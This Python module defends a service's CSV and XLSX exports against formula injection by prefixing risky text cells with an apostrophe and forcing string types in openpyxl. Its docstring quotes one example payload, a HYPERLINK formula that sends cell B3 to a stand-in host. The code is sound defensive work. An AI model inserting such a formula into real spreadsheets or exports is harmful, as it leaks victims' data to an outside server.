"""Cells of the CSV and XLSX files the service writes: text a spreadsheet would run as a formula
is written as text, the way OWASP's CSV-injection guidance says; numbers stay numbers.

Every export goes through `safe_cell` / `append_row`, so a company named
`=HYPERLINK("http://x/?"&B3,"Alpha")` reaches Excel and LibreOffice as the text it is.
"""
from __future__ import annotations

from typing import Iterable

from matcher.text_safety import clean_text

# A cell starting with one of these is a formula (or becomes one) in Excel, LibreOffice or Sheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"  # what a person types in Excel to say «this is text»


def safe_text(value: str) -> str:
    """`value` without control characters, prefixed with ' when a spreadsheet would read it as a formula."""
    text = clean_text(value)
    # Spreadsheets skip leading spaces and line breaks before looking for «=», so the check does too.
    if text.lstrip(" \n").startswith(FORMULA_STARTS):
        return TEXT_MARK + text
    return text


def safe_cell(value):
    """Text made safe; numbers, dates, booleans and empty cells as they are."""
    return safe_text(value) if isinstance(value, str) else value


def safe_row(values: Iterable) -> list:
    return [safe_cell(v) for v in values]


def append_row(sheet, values: Iterable) -> None:
    """Append a row to an openpyxl sheet with every text cell typed as a string, never as a formula."""
    sheet.append(safe_row(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"  # openpyxl types a string starting with «=» as a formula
